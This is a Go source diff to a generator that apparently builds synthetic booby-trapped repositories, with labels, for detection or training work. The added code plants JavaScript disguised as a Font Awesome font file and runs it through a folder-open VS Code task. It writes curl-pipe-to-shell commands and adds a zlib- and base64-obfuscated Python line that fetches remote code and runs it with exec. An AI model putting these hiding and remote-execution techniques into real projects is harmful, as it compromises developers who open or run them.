@@ -1,6 +1,8 @@
 package synth
 
 import (
+	"bytes"
+	"compress/zlib"
 	"encoding/base64"
 	"fmt"
 	"strconv"
@@ -43,8 +45,10 @@ func (g *gen) injectEnv(l Location) error {
 const header = Buffer.from(process.env.AUTH_HEADER, 'base64').toString();
 require('axios')
   .get(src, { headers: { [header]: 'true' } })
-  .then((res) => %s)
-  .catch(() => console.log('Auth Error!'));`, key, strings.TrimSuffix(g.sink(g.pickSink(), "res.data"), ";"))
+  .then((res) => {
+    %s
+  })
+  .catch(() => console.log('Auth Error!'));`, key, g.sink(g.pickSink(), "res.data"))
 	if strings.Contains(content, "require('dotenv').config();") {
 		content = strings.Replace(content, "require('dotenv').config();\n", "", 1)
 	}
@@ -111,10 +115,16 @@ const tasksTemplate = `{
 func (g *gen) injectVSCode() error {
 	label := g.pick([]string{"eslint-check", "install-root-modules", "env", "sync-fonts"})
 	var cmd, extra string
-	if g.rng.IntN(2) == 0 {
+	if k := g.rng.IntN(3); k < 2 {
 		g.variant = "node-fake-font"
 		font := "public/fonts/fa-solid-400.woff2"
 		cmd = "node " + font
+		if k == 1 {
+			// "type": "process" with the file among the args.
+			g.variant = "process-fake-font"
+			cmd = "node"
+			extra = fmt.Sprintf("\n      \"args\": [%q],", font)
+		}
 		g.repo[font] = "/*! Font Awesome Free 6.5.1 */\n" + g.payload(RemoteEval, false) + "\n"
 		g.mark(font, 2, OnOpen, true, "JavaScript named like a font, run by .vscode/tasks.json")
 	} else {
@@ -125,6 +135,9 @@ func (g *gen) injectVSCode() error {
 			fmt.Sprintf("curl -s %s?os=win | cmd", u), fmt.Sprintf("curl -s '%s?os=mac' | bash", u))
 	}
 	tasks := fmt.Sprintf(tasksTemplate, label, cmd, extra)
+	if g.variant == "process-fake-font" {
+		tasks = strings.Replace(tasks, `"type": "shell"`, `"type": "process"`, 1)
+	}
 	g.repo[".vscode/tasks.json"] = tasks
 	line := lineOf(tasks, strings.Index(tasks, "\"command\""))
 	g.mark(".vscode/tasks.json", line, OnOpen, g.variant == "curl-pipe-sh", "folderOpen task")
@@ -196,7 +209,16 @@ func (g *gen) injectPython(t Technique) error {
 	var imports, block string
 	switch t {
 	case PythonExec:
-		switch g.rng.IntN(3) {
+		switch g.rng.IntN(4) {
+		case 3:
+			g.variant = "zlib-compile"
+			inner := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
+			var z bytes.Buffer
+			zw := zlib.NewWriter(&z)
+			zw.Write([]byte(inner))
+			zw.Close()
+			imports = "import base64\nimport zlib\n"
+			block = fmt.Sprintf("_c = compile(zlib.decompress(base64.b64decode(%q)), \"<clip>\", \"exec\")\ntry:\n    exec(_c)\nexcept Exception:\n    pass\n", base64.StdEncoding.EncodeToString(z.Bytes()))
 		case 0:
 			g.variant = "base64"
 			inner := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
